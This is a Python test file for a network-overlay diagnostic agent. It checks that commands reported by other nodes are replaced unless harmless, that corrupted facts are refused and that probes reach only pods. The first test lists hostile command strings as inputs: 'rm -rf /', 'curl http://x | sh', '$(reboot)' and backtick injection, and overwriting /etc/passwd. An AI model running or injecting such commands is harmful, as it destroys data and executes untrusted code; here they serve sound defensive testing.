"""Facts come from other nodes: none makes the judgement fail, none hands an operator a command of its own."""

from ipaddress import ip_interface, ip_network
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.why.commands import INSTEAD, harmless
from agent.why.facts import Facts, Taken, plain, read
from agent.why.hop import BROKEN, OK, Hop
from agent.why.judge import judge
from agent.why.question import Question
from agent.why.question import read as read_question
from agent.why.records import Record
from agent.why.trial import tried
from cni.record import Attachment
from overlay.errors import BadInput, KernelRefused
from overlay.nodefile import NodeFamily, NodePage
from tests.agent.why_facts import NET, end, facts, passed, record, store


@pytest.mark.parametrize(
    "text",
    [
        "ip route del 10.5.2.0/24; rm -rf /",
        "nft delete rule inet $(reboot) c handle 2",
        "nsenter --net=/x sh -c id",
        "curl http://x | sh",
        "ip link set `id` up",
        "ip route show > /etc/passwd",
        "ip netns exec x reboot",
        "ip -batch /tmp/x",
        "systemctl restart sshd",
        "nft -f /tmp/x",
        "overlayctl leave --force",
    ],
)
def test_a_command_of_another_node_is_copied_only_if_it_is_plain(text: str) -> None:
    """It is made from what that node says."""
    assert harmless(text) == INSTEAD
    assert harmless("ip link set eth0 up; nft delete rule inet fw c handle 2") != INSTEAD
    evil = facts(2, 1, forward_in=[Taken("x", True, text)])
    told = judge(end(1, facts(1, 2)), end(2, evil), store(), same_node=False)
    assert told.first is not None
    assert told.first.mend == INSTEAD


_LEAF = st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.just("::1")
_ANY: st.SearchStrategy[Any] = (
    _LEAF | st.lists(_LEAF, max_size=3) | st.dictionaries(st.text(max_size=4), _LEAF, max_size=2)
)
"""Values of any type that JSON has; made once, as each draw would make it anew."""


@st.composite
def _mutated(draw: st.DrawFn, whole: Facts) -> Any:  # noqa: ANN401
    """Healthy facts in which some values are gone or others."""
    told = plain(whole)
    for _ in range(draw(st.integers(1, 6))):
        place: Any = told
        while True:
            keys = list(place) if isinstance(place, dict) else list(range(len(place)))
            if not keys:
                break
            key = draw(st.sampled_from(keys))
            deeper = isinstance(place[key], dict | list) and draw(st.booleans())
            if not deeper:
                if draw(st.booleans()) and isinstance(place, dict):
                    del place[key]
                else:
                    place[key] = draw(_ANY)
                break
            place = place[key]
    return told


def _read(told: object) -> Facts | None:
    try:
        return read(told)
    except BadInput:
        return None


@given(_mutated(facts(1, 2, test=passed())), _mutated(facts(2, 1)), st.booleans(), st.booleans())
def test_no_facts_of_another_node_make_the_judgement_fail(
    near: object, far: object, same_node: bool, known: bool
) -> None:
    """What is decoded is judged, what is not is refused."""
    records: Record | None = record(2) if known else None
    told = judge(
        end(1, _read(near)), end(2, _read(far)), store(far=records, net=NET), same_node=same_node
    )
    assert all(isinstance(hop, Hop) for hop in told.hops)
    assert told.first is None or told.first.state != OK
    assert told.broken == any(hop.state == BROKEN for hop in told.hops)


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"pod": ""},
        {"pod": "x", "other": "y"},
        {"pod": "x", "port": 70000},
        {"pod": 7},
        {"pod": "x", "proto": "gre"},
    ],
)
def test_a_question_that_is_none_is_refused(body: dict[str, Any]) -> None:
    """It comes from etcd."""
    with pytest.raises(BadInput):
        read_question(body)


def test_a_test_is_sent_to_pods_only() -> None:
    """Who may ask from afar must not make a pod talk to the rest of the world; no namespace is entered here."""
    page = NodePage((NodeFamily(ip_interface("10.5.1.1/24"), ip_network("10.5.0.0/16")),), 1450)
    pod = Attachment("overlay", "c", "eth0", "/nowhere", "ovl1", ("10.5.1.2/24",))
    elsewhere = Question(pod="c", other="192.0.2.1", proto="tcp", port=22, test=True)
    assert tried(elsewhere, pod, "/nowhere", page) is None
    assert tried(elsewhere, pod, "/nowhere", None) is None
    with pytest.raises(KernelRefused):  # it would be sent
        tried(Question(pod="c", other="10.5.2.2", test=True), pod, "/nowhere", page)
